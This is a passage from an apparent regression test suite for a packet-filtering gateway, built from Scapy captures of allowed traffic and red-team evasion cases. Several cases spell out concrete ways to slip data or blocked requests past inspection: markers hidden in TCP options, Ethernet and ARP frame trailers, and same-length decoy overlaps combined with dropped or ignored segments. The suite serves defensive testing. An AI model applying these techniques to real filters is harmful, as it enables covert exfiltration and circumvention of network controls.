    flag on the SYN, SYN-ACK (12 bytes) and third ACK (20 bytes), then on every data
    segment a DSS with an 8-byte data ACK, an 8-byte DSN, the subflow sequence, length
    and checksum (28 bytes) behind NOP, NOP, timestamps: 40 bytes of options, and
    DATA_ACK-only DSS on the ACKs. Nothing may be dropped. Since the twenty-first
    session the SYN's MP_CAPABLE is taken off (judge_syn_normalise): the server answers
    without it and the client falls back to TCP, timestamps alone."""
    cap = Capture()
    kc, ks = prand(n + "kc", 8), prand(n + "ks", 8)
    t = Rt9dTcp(cap, S1, 53605, E2M, 53605,
                lambda t: rt9d_linux_syn(t) + [(30, b"\x00\x81" + kc)],
                lambda t: rt9d_linux_synack(t), ts=True)
    t.raw(True, "S", options=t.syn_opts(t))
    t.cseq += 1
    t.raw(False, "SA", options=t.synack_opts(t))
    t.sseq += 1
    assert ks
    t.raw(True, "A", options=t.opts(True, []))
    dsn = {True: 0x1122334455660001, False: 0x6655443322110001}
    c0, s0 = t.cseq, t.sseq

    def seg(from_client, payload):
        ssn = ((t.cseq - c0) if from_client else (t.sseq - s0)) + 1
        dss = (b"\x20\x0f" + struct.pack("!QQIHH", dsn[not from_client], dsn[from_client],
                                            ssn & M32, len(payload), 0x1234))
        assert dss
        t.seg(from_client, payload, extra=[])
        dsn[from_client] += len(payload)
        if from_client:
            t.cseq += len(payload)
        else:
            t.sseq += len(payload)
        t.raw(not from_client, "A", options=t.opts(not from_client, []))
    seg(True, hello(n))
    seg(False, server_hello_flight(n))
    seg(True, CCS + tls_appdata(n + "fin", 53))
    seg(True, marked_record(passm(n), n + "req", 200))
    seg(False, marked_record(passm(n) + b"srv", n + "resp", 500))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt9d_mptcp_fallback_ok(n):
    """(Red team round 9d) A Linux MPTCP client (mptcpize, or a program opening
    IPPROTO_MPTCP sockets: GNOME's and systemd's tools in recent distributions) to a
    server without MPTCP: its SYN carries MP_CAPABLE v1 (4 bytes), the SYN-ACK none, and
    the client falls back to plain TCP with timestamps and SACK. The server's answer
    has a hole on the inside LAN (SACK on the client's ACKs). Nothing may be dropped."""
    cap = Capture()
    t = Rt9dTcp(cap, S1, 53606, E2M, 53606,
                lambda t: rt9d_linux_syn(t) + [(30, b"\x01\x81")], rt9d_linux_synack, ts=True)
    rt9d_open(t, n)
    t.data(True, marked_record(passm(n), n + "rq", 300))
    t.download(marked_record(passm(n) + b"srv", n + "rs", 6000), lost={1})
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt9d_tfo_cookie_ok(n):
    """(Red team round 9d) Linux with TCP Fast Open as a client (net.ipv4.tcp_fastopen=1,
    the default; curl --tcp-fastopen, Chrome): its first SYN asks for a cookie (Fast
    Open option, kind 34, 2 bytes, no data), the server's SYN-ACK gives one (10 bytes);
    then an ordinary session. Nothing may be dropped."""
    cap = Capture()
    t = Rt9dTcp(cap, S1, 53607, E2M, 53607,
                lambda t: rt9d_linux_syn(t) + [(34, b""), ("NOP", None), ("NOP", None)],
                lambda t: rt9d_linux_synack(t) + [(34, prand(n + "cookie", 8)), ("NOP", None),
                                                  ("NOP", None)], ts=True)
    rt9d_open(t, n)
    t.data(True, marked_record(passm(n), n + "rq", 300))
    t.data(False, marked_record(passm(n) + b"srv", n + "rs", 900))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt9d_accecn_ok(n):
    """(Red team round 9d) Accurate ECN (RFC 9768; Linux 6.18, Apple's stacks): the SYN
    sets AE, CWR and ECE, the SYN-ACK answers (0,1,0) with an AccECN option; every later
    segment carries the ACE counter in AE/CWR/ECE (5 at first), data segments are ECT(0)
    and carry an AccECN option of three counters (11 bytes) behind NOP, NOP, timestamps;
    ACKs carry the option shortened (8, 5 or 2 bytes). Nothing may be dropped."""
    cap = Capture()
    t = Rt9dTcp(cap, S1, 53608, E2M, 53608, rt9d_linux_syn,
                lambda t: rt9d_linux_synack(t) + [("NOP", None), (172, b"\x00\x00\x01" * 3)], ts=True)
    t.raw(True, "SECN", options=t.syn_opts(t))
    t.cseq += 1
    t.raw(False, "SAC", options=t.synack_opts(t))
    t.sseq += 1
    t.raw(True, "AC", options=t.opts(True))
    k = [0]

    def xchg(from_client, payload):
        k[0] += 1
        t.seg(from_client, payload, flags="PAEN", ipkw={"tos": 2},
              extra=[(172, struct.pack("!III", 0, len(payload) * k[0], 1)[1:4] * 3), ("NOP", None)])
        if from_client:
            t.cseq += len(payload)
        else:
            t.sseq += len(payload)
        short = [(174, b"\x00\x00\x00" * 2), (172, b"\x00\x05\x00"), (172, b"")][k[0] % 3]
        t.raw(not from_client, "AEN", options=t.opts(not from_client, [short]))
    xchg(True, hello(n))
    xchg(False, server_hello_flight(n))
    xchg(True, CCS + tls_appdata(n + "fin", 53))
    xchg(True, marked_record(passm(n), n + "rq", 300))
    xchg(False, marked_record(passm(n) + b"srv", n + "rs", 900))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt9d_dns_root_pad_ok(n):
    """(Red team round 9d) A priming query (`dig +noedns . NS`: 17 bytes of DNS) from the
    strict zone to the resolver, UDP checksum 0 (IPv4 allows it; some embedded stacks
    send it), in a frame padded to 60 bytes with a stale byte as NICs pad; the resolver
    answers. Then a query for the e2m name, in a
    frame that still holds its 4-byte FCS (a port that keeps the CRC). The UDP length is
    each datagram's rest: nothing may be dropped."""
    cap = Capture()
    q = bytes(DNS(id=0x5360, rd=1, qd=DNSQR(qname=".", qtype="NS")))
    assert len(q) == 17
    f = bytes(l2(S1, RESOLVER) / IP(src=S1, dst=RESOLVER) / UDP(sport=53609, dport=53, chksum=0) / Raw(q))
    cap.emit(Ether(f + b"\xa5" * (60 - len(f))), 10000)
    a = bytes(DNS(id=0x5360, qr=1, rd=1, ra=1, qd=DNSQR(qname=".", qtype="NS"),
                  an=DNSRR(rrname=".", type="NS", ttl=518400, rdata="a.root-servers.net")))
    udp(cap, RESOLVER, 53, S1, 53609, a)
    q2 = bytes(DNS(id=0x5361, rd=1, qd=DNSQR(qname=E2M_NAME, qtype="A")))
    f2 = bytes(l2(S1, RESOLVER) / IP(src=S1, dst=RESOLVER) / UDP(sport=53609, dport=53) / Raw(q2))
    cap.emit(Ether(f2 + b"\x00\x00\x00\x00"), 10000)
    a2 = bytes(DNS(id=0x5361, qr=1, rd=1, ra=1, qd=DNSQR(qname=E2M_NAME, qtype="A"),
                   an=DNSRR(rrname=E2M_NAME, type="A", ttl=300, rdata=E2M)))
    udp(cap, RESOLVER, 53, S1, 53609, a2)
    return cap, {"pass": [q, a, q2, a2]}


def rt9d_udp_frag(n, src, dst, cport, cuts):
    cap = Capture()
    qid = 0x5362
    q = (struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 1)
         + b"\x09selector1\x0a_domainkey\x07example\x00" + struct.pack("!HH", 16, 1)
         + b"\x00" + struct.pack("!HHIH", 41, 4096, 0, 0))
    udp(cap, src, cport, dst, 53, q)
    txt = passm(n) + prand(n + src, 2950)
    rdata = b"".join(bytes([len(txt[i:i + 255])]) + txt[i:i + 255] for i in range(0, len(txt), 255))
    ans = (struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 0) + q[12:-11]
           + b"\xc0\x0c" + struct.pack("!HHIH", 16, 1, 300, len(rdata)) + rdata)
    pkt = (IPv6 if ":" in src else IP)(src=dst, dst=src) / UDP(sport=53, dport=cport) / Raw(ans)
    for i, fr in enumerate(fragments(pkt, cuts, ident=0x5362)):
        cap.emit(l2(dst, src) / fr, 20000 if i == 0 else 100)
    return cap, {"pass": [q, passm(n)]}


@case
def case_rt9d_udp_frag_ok(n):
    """(Red team round 9d) Office: a DNS query with EDNS (4096) to an outside resolver
    and its 3000-byte TXT answer (DKIM records are that big) in three IPv4 fragments:
    the reassembled datagram's UDP length is its rest (only the first fragment's is no
    bound). Must pass."""
    return rt9d_udp_frag(n, O1, SOC, 53610, [1448, 2896])


@case
def case_rt9d_udp6_frag_ok(n):
    """(Red team round 9d) rt9d_udp_frag_ok over IPv6: the answer in two IPv6 fragments
    (1448 bytes of UDP in the first). Must pass."""
    return rt9d_udp_frag(n, O6, SOC6, 53611, [1448])


# --- carriers the stricter option and frame rules leave

@case
def case_rt9d_carrier_fin_opts(n):
    """(Red team round 9d) After the allowed session's last record the client sends its
    FIN with a 38-byte MSS option holding the marker, and sends the FIN again three
    times (each a retransmission: the server's ACK of it never comes), each with the
    marker in the option. A FIN without bytes goes neither through the bare ACK's
    option check nor through judge_discardable. Must not pass."""
    cap = Capture()
    t = tls_established(cap, S1, 53622, E2M, 53622, n)
    t.data(True, tls_appdata(n + "last", 300))
    for i in range(4):
        data = (leak(n) + prand("%s%d" % (n, i), 36))[:36]
        t.raw(True, "FA", options=[(2, data)], gap=200000)
    t.cseq += 1
    t.raw(False, "FA")
    t.sseq += 1
    t.raw(True, "A")
    return cap, {"leak": [leak(n)]}


@case
def case_rt9d_frag_trailer(n):
    """(Red team round 9d) rt8b_eth_trailer through fragments: every client record of an
    allowed e2m session in two IPv4 fragments, each frame with 1000 bytes (the marker)
    after its IP datagram. The trailer cut in judge_burst skips fragments, and
    judge_frag_emit forwards the fragments' own frames whole. The next hop trims each to
    its IP length. Must not pass."""
    def send(t, rec, i):
        pkt = IP(src=t.c, dst=t.s) / TCP(sport=t.cport, dport=t.sport, flags="PA", seq=t.cseq,
                                         ack=t.sseq, window=64240) / Raw(rec)
        for j, fr in enumerate(fragments(pkt, [160], ident=0x5370 + i)):
            raw = bytes(l2(t.c, t.s) / fr) + leak(n) + prand("%s%d%d" % (n, i, j), 1000)
            t.cap.emit(Ether(raw), 10000 if j == 0 else 100)
    return carrier_flow(n, 53623, 53623, False, send), {"leak": [leak(n)]}


@case
def case_rt9d_arp_trailer(n):
    """(Red team round 9d) During an allowed e2m session the strict host sends, before
    each record, an ARP request for its gateway (broadcast, from its own MAC and
    address) whose frame carries 1000 bytes (the marker) after the 28-byte ARP message:
    the trailer cut reads IP frames only. Every host of the outside segment gets the
    broadcast. Must not pass."""
    def send(t, rec, i):
        arp = (Ether(src=mac_pair(t.c, t.s)[0], dst="ff:ff:ff:ff:ff:ff")
               / ARP(op=1, hwsrc=mac_pair(t.c, t.s)[0], psrc=t.c, pdst="10.10.0.1"))
        t.cap.emit(Ether(bytes(arp) + leak(n) + prand("%s%d" % (n, i), 1000)), 1000)
        t.raw(True, "PA", rec)
    return carrier_flow(n, 53624, 53624, False, send), {"leak": [leak(n)]}


@case
def case_rt10_carry_full_same_len_vk(n):
    """(Review of the twentieth session) As rtk2_full_body_vk: the same inside host holds
    its 16 carry slots with unfinished heads. On the kept-alive connection, a cut head
    for www.example.org (no empty line yet) finds no slot (JUDGE_HTTP_FULL) and is
    dropped, but the next byte had moved past it before the state was saved, so the
    client's copy of the same length at the same place, a cut head for m.vk.com, passed
    as old bytes, unread and unlogged; the empty line after it starts no request to
    us. nginx reads the GET for m.vk.com. No byte of that copy may pass."""
    cap, t = ka_flow(n, 53800)
    for i in range(16):
        a = ETcp(cap, O1, 21100 + i, SOC, 80, isn=7000 + i * 977, rtt_us=200)
        a.handshake()
        a.send(True, b"GET /o%d HTTP/1.1\r\nHost: www.example.org\r\nX-A: " % i)
    real = b"GET /feed HTTP/1.1\r\nHost: m.vk.com\r\nX-Mark: " + leak(n)
    decoy = b"GET /x HTTP/1.1\r\nHost: www.example.org\r\nX-Pad: "
    decoy += b"p" * (len(real) - len(decoy))
    assert len(decoy) == len(real)
    base = t.cseq
    t.raw(True, "PA", decoy, seq=base)
    t.raw(True, "PA", real, seq=base, gap=200000)
    t.raw(True, "PA", b"\r\n\r\n", seq=base + len(real), gap=1000)
    t.cseq = base + len(real) + 4
    t.raw(False, "A")
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt10_hold_trailer(n):
    """(Review of the twentieth session) As rt8b_eth_trailer, each record in two segments
    sent out of order: the second first, in a frame with 1000 bytes after its datagram.
    It is held past the gap (a checked flow's segment ahead of a gap) and forwarded once
    the first fills it, by a path that did not cut the trailer. Must not pass."""
    def send(t, rec, i):
        h = len(rec) // 2
        for off, part, junk in ((h, rec[h:], True), (0, rec[:h], False)):
            p = IP(src=t.c, dst=t.s) / TCP(sport=t.cport, dport=t.sport, flags="PA", seq=t.cseq + off,
                                             ack=t.sseq, window=64240) / Raw(part)
            raw = bytes(l2(t.c, t.s, t.vlans) / p)
            if junk:
                raw += leak(n) + prand("%s%d" % (n, i), 1000)
            t.cap.emit(Ether(raw), 500)
    return carrier_flow(n, 53801, 53801, False, send), {"leak": [leak(n)]}


@case
def case_rt10_office_tls_pmtu_vk(n):
    return _rt10_office_tls_pmtu(n, 53810, False)


@case
def case_rt10_office_tls_pmtu_ok(n):
    """Must-allow twin of rt10_office_tls_pmtu_vk: the same DF hello dropped past us, then
    the same bytes in two smaller segments (Linux after "fragmentation needed")."""
    return _rt10_office_tls_pmtu(n, 53811, True)


def _rt10_office_tls_pmtu(n, cport, same):
    """(Twentieth session) Office TLS: a ClientHello for www.example.org padded to one
    full-size DF segment, which a smaller MTU past us drops (ICMP "fragmentation needed"
    back); then a ClientHello for m.vk.com of the same length at its place in two smaller
    segments, which the server reads. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, 443, isn=cport * 3, rtt_us=20000)
    t.handshake()
    total = 1460

    def padded(seed, sni, sid):
        base = record(22, hs_client_hello(seed, sni=sni, sid=sid, extra=[ext(21, b"")]))
        return record(22, hs_client_hello(seed, sni=sni, sid=sid,
                                          extra=[ext(21, b"\x00" * (total - len(base)))]))
    decoy = padded(n + "d", "www.example.org", None)
    real = padded(n + "r", "m.vk.com", sid32(leak(n))) if not same else decoy
    assert len(real) == len(decoy) == total
    base = t.cseq
    t.raw(True, "PA", decoy, seq=base, ipkw={"flags": "DF"})
    quoted = bytes(IP(src=O1, dst=SOC, flags="DF", len=20 + 20 + len(decoy)) /
                   TCP(sport=cport, dport=443, seq=base, ack=t.sseq, flags="PA"))[:28]
    rtr = "10.20.0.1"
    cap.emit(l2(rtr, O1) / IP(src=rtr, dst=O1) / ICMP(type=3, code=4, nexthopmtu=1492) / Raw(quoted), 2000)
    t.raw(True, "PA", real[:1400], seq=base, ipkw={"flags": "DF"})
    t.raw(True, "PA", real[1400:], seq=base + 1400, ipkw={"flags": "DF"})
    t.cseq = base + len(real)
    t.ack(False)
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(passm(n) if same else leak(n), n + "req"))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap, {"pass": [passm(n)]} if same else {"leak": [leak(n)]}


@case
def case_rt10e_lead_pmtu_vk(n):
    """(Red team round 10e) Office HTTP: the client's first payload is 1460 bytes of CRLF
    (white space nginx skips before a request line) in one DF segment, which a smaller MTU
    past us drops (ICMP frag needed). A payload of white space alone sets no read start
    (judge_tcp: FLOW_HW_SEEN waits for more than the lead), so its bytes are neither read
    nor logged. Then a GET for www.example.org right after it (held by the server past the
    gap, read by us, hw.next there), then at the CRLF's place a GET for m.vk.com padded to
    1460 bytes: old bytes to us, no log to compare. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 53900, SOC, 80, isn=53900 * 7, rtt_us=20000)
    t.handshake()
    base = t.cseq
    decoy = b"\r\n" * 730
    t.raw(True, "PA", decoy, seq=base, ipkw={"flags": "DF"})
    quoted = bytes(IP(src=O1, dst=SOC, flags="DF", len=1500) / TCP(sport=53900, dport=80, seq=base,
                                                                  ack=t.sseq, flags="PA"))[:28]
    rtr = "10.20.0.1"
    cap.emit(l2(rtr, O1) / IP(src=rtr, dst=O1) / ICMP(type=3, code=4, nexthopmtu=1492) / Raw(quoted),
             2000)
    ok = b"GET /0 HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n"
    t.raw(True, "PA", ok, seq=base + 1460)
    t.raw(False, "A", ack=base)
    real = _rtk_vk_req(n)
    real = real[:-2] + b"X-Pad: " + b"q" * (1460 - len(real) - 9) + b"\r\n\r\n"
    assert len(real) == 1460
    t.raw(True, "PA", real[:1400], seq=base, ipkw={"flags": "DF"}, gap=30000)
    t.raw(True, "PA", real[1400:], seq=base + 1400, ipkw={"flags": "DF"})
    t.cseq = base + 1460 + len(ok)
    t.raw(False, "A")
    _vk_answer(t, n)
    _ok_answer(t, n, mark=False)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt10e_lead_pmtu_late_vk(n):
    """(Red team round 10e) As rt10e_lead_pmtu_vk, but the GET for www.example.org after
    the CRLF decoy is followed by a second one, so that the office's verdict is given
    before the m.vk.com request comes at the decoy's place (the after-verdict fast path).
    Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 53902, SOC, 80, isn=53902 * 7, rtt_us=20000)
    t.handshake()
    base = t.cseq
    decoy = b"\r\n" * 730
    t.raw(True, "PA", decoy, seq=base, ipkw={"flags": "DF"})
    quoted = bytes(IP(src=O1, dst=SOC, flags="DF", len=1500) / TCP(sport=53902, dport=80, seq=base,
                                                                  ack=t.sseq, flags="PA"))[:28]
    rtr = "10.20.0.1"
    cap.emit(l2(rtr, O1) / IP(src=rtr, dst=O1) / ICMP(type=3, code=4, nexthopmtu=1492) / Raw(quoted),
             2000)
    at = base + 1460
    for i in range(6):
        ok = b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n" % i
        t.raw(True, "PA", ok, seq=at, gap=5000)
        at += len(ok)
        t.raw(False, "A", ack=base)
    cap.idle(2)
    real = _rtk_vk_req(n)
    real = real[:-2] + b"X-Pad: " + b"q" * (1460 - len(real) - 9) + b"\r\n\r\n"
    t.raw(True, "PA", real[:1400], seq=base, ipkw={"flags": "DF"}, gap=30000)
    t.raw(True, "PA", real[1400:], seq=base + 1400, ipkw={"flags": "DF"})
    t.cseq = at
    t.raw(False, "A")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt10e_chunk_runs_loss_ok(n):
    """(Red team round 10e) Must-allow: office HTTP, a chunked NDJSON upload (Node's http
    client writes each line as one chunk) of 40-byte chunks, 30 KB in one flight; a late
    segment is lost past us and sent again, the same bytes. Each chunk's size line is its
    own run in the request log (chunk data is not logged): past 256 runs the rest is an
    unverifiable range that the honest retransmission touches."""
    cap, t = ka_flow(n, 53901, reqs=1)
    t.data(True, b"POST /ingest HTTP/1.1\r\nHost: www.example.org\r\nTransfer-Encoding: chunked\r\n"
           b"Content-Type: application/x-ndjson\r\n\r\n")
    body = b""
    i = 0
    while len(body) < 30000:
        d = b'{"i":%05d,"m":"' % i + passm(n) + b'"}'
        d = d + b"x" * (39 - len(d)) + b"\n"
        body += b"%x\r\n" % len(d) + d + b"\r\n"
        i += 1
    body += b"0\r\n\r\n"
    base = t.cseq
    segs = [(o, body[o:o + 1448]) for o in range(0, len(body), 1448)]
    lost = len(segs) - 3
    for j, (o, s) in enumerate(segs):
        t.raw(True, "PA", s, seq=base + o, gap=100)
    t.raw(False, "A", ack=base + segs[lost][0], gap=20000)
    for j in range(lost + 1, len(segs)):
        t.raw(False, "A", ack=base + segs[lost][0], gap=100)
    t.raw(True, "PA", segs[lost][1], seq=base + segs[lost][0], gap=20000)
    t.cseq = base + len(body)
    t.raw(False, "A")
    _ok_answer(t, n, mark=False)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt10e_nat80_ok(n):
    """(Red team round 10e) Must-allow: a terminal server (one inside address) whose users'
    80 connections to one site each send a request in the same burst, before the server's
    delayed ACKs (one RTT). The per-source share of request logs is 64: the 65th and later
    requests are dropped (http_log_full) and sent again at the RTO, once the first 64 were
    acknowledged. They must then pass and be answered."""
    cap = Capture()
    ts = []
    for i in range(80):
        t = ETcp(cap, O1, 53910 + i, SOC, 80, isn=(53910 + i) * 7, rtt_us=20000)
        t.handshake(gap=200)
        ts.append(t)
    heads = []
    for i, t in enumerate(ts):
        h = (b"GET /app/%d HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: Mozilla/5.0\r\n"
             b"X-Mark: " % i + passm(n) + b"\r\n\r\n")
        heads.append(h)
        t.raw(True, "PA", h, gap=50)
    for i, t in enumerate(ts[:64]):
        t.raw(False, "A", ack=t.cseq + len(heads[i]), gap=100 if i else 20000)
    for i, t in enumerate(ts[64:], 64):
        t.raw(True, "PA", heads[i], gap=200000 if i == 64 else 50)
    for i, t in enumerate(ts):
        t.cseq += len(heads[i])
        t.raw(False, "A", gap=100)
        _ok_answer(t, n, mark=False)
    for t in ts:
        t.close(gap=100)
    return cap, {"pass": [passm(n)]}


@case
def case_rt10e_h2_small_data_loss_ok(n):
    """(Red team round 10e) Must-allow: office h2c with prior knowledge (decided long
    before), then a gRPC client stream on stream 81: 600 small messages, each its own DATA
    frame of 43 bytes (gRPC's 5-byte prefix, a 38-byte message), 31 KB in one flight
    inside both windows; a late segment is lost past us and sent again, the same bytes.
    Each frame header is its own run in the request log (DATA payloads are not logged):
    past 256 runs the rest is an unverifiable range the honest copy touches."""
    def last(t):
        t.data(True, h2_frame(1, 4, 81, h2_idx_block(b"www.example.org", b"up", True)))
        data = b""
        for i in range(600):
            body = passm(n) + b"%05d" % i
            msg = b"\x00" + len(body).to_bytes(4, "big") + body
            data += h2_frame(0, 1 if i == 599 else 0, 81, msg)
        base = t.cseq
        segs = [(o, data[o:o + 1448]) for o in range(0, len(data), 1448)]
        lost = len(segs) - 3
        for o, s in segs:
            t.raw(True, "PA", s, seq=base + o, gap=100)
        t.raw(False, "A", ack=base + segs[lost][0], gap=20000)
        for j in range(lost + 1, len(segs)):
            t.raw(False, "A", ack=base + segs[lost][0], gap=100)
        t.raw(True, "PA", segs[lost][1], seq=base + segs[lost][0], gap=20000)
        t.cseq = base + len(data)
        t.raw(False, "A")
        t.data(False, h2_frame(1, 4, 81, b"\x88") + h2_frame(0, 1, 81, b"done"))
    return h2c_long(n, 53903, last, passm(n)), {"pass": [passm(n)]}


@case
def case_rt10e_lead_small_vk(n):
    """(Red team round 10e) As rt10e_lead_pmtu_vk with a short lead and no DF: the first
    payload, CRLFs as long as the m.vk.com head, is lost past us (the loss alone makes the
    point: no log holds those bytes), a GET for www.example.org after it, then the m.vk.com
    head at the CRLFs' place, in one segment. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 53904, SOC, 80, isn=53904 * 7, rtt_us=20000)
    t.handshake()
    base = t.cseq
    real = b"GET /v HTTP/1.1\r\nHost: m.vk.com\r\nX-M: " + leak(n) + b"\r\n\r\n"
    decoy = b"\r\n" * ((len(real) + 1) // 2)
    real = real[:-4] + b"z" * (len(decoy) - len(real)) + b"\r\n\r\n"
    assert len(real) == len(decoy)
    t.raw(True, "PA", decoy, seq=base)
    ok = b"GET /0 HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n"
    t.raw(True, "PA", ok, seq=base + len(decoy))
    t.raw(False, "A", ack=base)
    t.raw(True, "PA", real, seq=base, gap=30000)
    t.cseq = base + len(decoy) + len(ok)
    t.raw(False, "A")
    _vk_answer(t, n)
    _ok_answer(t, n, mark=False)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt10e_lead_ttl_vk(n):
    """(Red team round 10e) As rt10e_lead_small_vk, the CRLF lead with TTL 1 (it expires
    on the way; the per-cause check should drop it unread). Must drop (social)."""
    return _rt10e_lead(n, 53905, {"ttl": 1}, None)


@case
def case_rt10e_lead_badsum_vk(n):
    """(Red team round 10e) As rt10e_lead_small_vk, the CRLF lead with a wrong TCP checksum
    (the server drops it). Must drop (social)."""
    return _rt10e_lead(n, 53906, None, {"chksum": 0xdead})


def _rt10e_lead(n, port, ipkw, tcpkw):
    cap = Capture()
    t = ETcp(cap, O1, port, SOC, 80, isn=port * 7, rtt_us=20000)
    t.handshake()
    base = t.cseq
    real = b"GET /v HTTP/1.1\r\nHost: m.vk.com\r\nX-M: " + leak(n) + b"\r\n\r\n"
    decoy = b"\r\n" * ((len(real) + 1) // 2)
    real = real[:-4] + b"z" * (len(decoy) - len(real)) + b"\r\n\r\n"
    t.raw(True, "PA", decoy, seq=base, ipkw=ipkw, tcpkw=tcpkw)
    ok = b"GET /0 HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n"
    t.raw(True, "PA", ok, seq=base + len(decoy))
    t.raw(False, "A", ack=base)
    t.raw(True, "PA", real, seq=base, gap=30000)
    t.cseq = base + len(decoy) + len(ok)
    t.raw(False, "A")
    _vk_answer(t, n)
    _ok_answer(t, n, mark=False)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt10e_h2_idle_share_ok(n):
    """(Red team round 10e) Must-allow: one inside address (a gRPC client's channel pool,
    an Envoy sidecar) holds 70 h2c connections with prior knowledge that sent their
    preface and SETTINGS, got the server's SETTINGS and ACK, and wait idle (no request
    yet, no keepalive). Each is allowed lazily past the time budget, when judge_h2w_open
    puts its first bytes (acknowledged long ago) into a request log, which only a later
    server segment releases. Then the same address sends an ordinary HTTP/1 GET on a new
    connection (sent again at 1 s and 3 s if need be): it must pass."""
    cap = Capture()
    ts = []
    for i in range(70):
        t = ETcp(cap, O1, 53920 + i, SOC, 80, isn=(53920 + i) * 7, rtt_us=20000)
        t.handshake(gap=200)
        t.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
        t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(4, 1, 0, b""))
        t.data(True, h2_frame(4, 1, 0, b""))
        ts.append(t)
    cap.idle(15)
    for i, t in enumerate(ts[:3]):
        t.data(True, h2_frame(6, 0, 0, b"pingAAAA"))
        t.data(False, h2_frame(6, 1, 0, b"pingAAAA"))
    cap.idle(1)
    u = ETcp(cap, O1, 53999, SOC, 80, isn=53999 * 7, rtt_us=20000)
    u.handshake()
    head = b"GET /x HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: " + passm(n) + b"\r\n\r\n"
    for gap in (1000, 1000000, 2000000):
        u.raw(True, "PA", head, gap=gap)
    u.cseq += len(head)
    u.raw(False, "A")
    _ok_answer(u, n, mark=False)
    u.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt10e_lead_idle_vk(n):
    """(Red team round 10e) Office HTTP: the client's first payload is a bare CRLF (nginx
    skips it before a request line), delivered; then 30 s of silence (under nginx's 60 s
    client_header_timeout), past the office's time budget, so the flow is allowed
    (giveup) with no HTTP read start set (FLOW_HW_SEEN waits for more than white space,
    and is looked at before the verdict only); then a GET for m.vk.com. Must drop
    (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 53907, SOC, 80, isn=53907 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"\r\n")
    cap.idle(30)
    t.data(True, _rtk_vk_req(n), gap=1000)
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt10e_lead_many_vk(n):
    """(Red team round 10e) Office HTTP: the client's first 40 payloads are bare CRLFs
    (nginx skips them all before a request line: 80 bytes in its 1 KiB header buffer),
    each acknowledged, past the classifier's packet budget, so the flow is allowed
    (giveup) with no HTTP read start set; then a GET for m.vk.com. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 53908, SOC, 80, isn=53908 * 7, rtt_us=20000)
    t.handshake()
    for i in range(40):
        t.data(True, b"\r\n", gap=2000)
    t.data(True, _rtk_vk_req(n), gap=1000)
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@open_case
def case_rt10e_head20k_loss_ok(n):
    """(Red team round 10e) Must-allow: office HTTP, the connection's first request, a GET
    for www.example.org (Host first) with three 7000-byte headers (an SSO token, cookies:
    each line under nginx's 8 KiB buffer, 21 KB in all, under its 32 KiB), in one flight;
    a late segment is lost past us and sent again, the same bytes. The head is passed over
    past 16 KiB (its Host was read); the request log holds 16 KiB, the rest is an
    unverifiable range the honest copy touches."""
    cap = Capture()
    t = ETcp(cap, O1, 53909, SOC, 80, isn=53909 * 7, rtt_us=20000)
    t.handshake()
    head = b"GET /big HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: Mozilla/5.0\r\n"
    for i in range(3):
        head += b"X-Tok%d: " % i + prand("%s-t%d" % (n, i), 3490).hex().encode() + b"\r\n"
    head += b"X-Mark: " + passm(n) + b"\r\n\r\n"
    base = t.cseq
    segs = [(o, head[o:o + 1448]) for o in range(0, len(head), 1448)]
    lost = len(segs) - 2
    for o, sg in segs:
        t.raw(True, "PA", sg, seq=base + o, gap=100)
    t.raw(False, "A", ack=base + segs[lost][0], gap=20000)
    for j in range(lost + 1, len(segs)):
        t.raw(False, "A", ack=base + segs[lost][0], gap=100)
    t.raw(True, "PA", segs[lost][1], seq=base + segs[lost][0], gap=20000)
    t.cseq = base + len(head)
    t.raw(False, "A")
    _ok_answer(t, n, mark=False)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt10e_head20k_ok(n):
    """(Red team round 10e) Must-allow, the control of rt10e_head20k_loss_ok: the same
    21 KB first head in one flight, no loss."""
    cap = Capture()
    t = ETcp(cap, O1, 53990, SOC, 80, isn=53990 * 7, rtt_us=20000)
    t.handshake()
    head = b"GET /big HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: Mozilla/5.0\r\n"
    for i in range(3):
        head += b"X-Tok%d: " % i + prand("%s-t%d" % (n, i), 3490).hex().encode() + b"\r\n"
    head += b"X-Mark: " + passm(n) + b"\r\n\r\n"
    base = t.cseq
    for o in range(0, len(head), 1448):
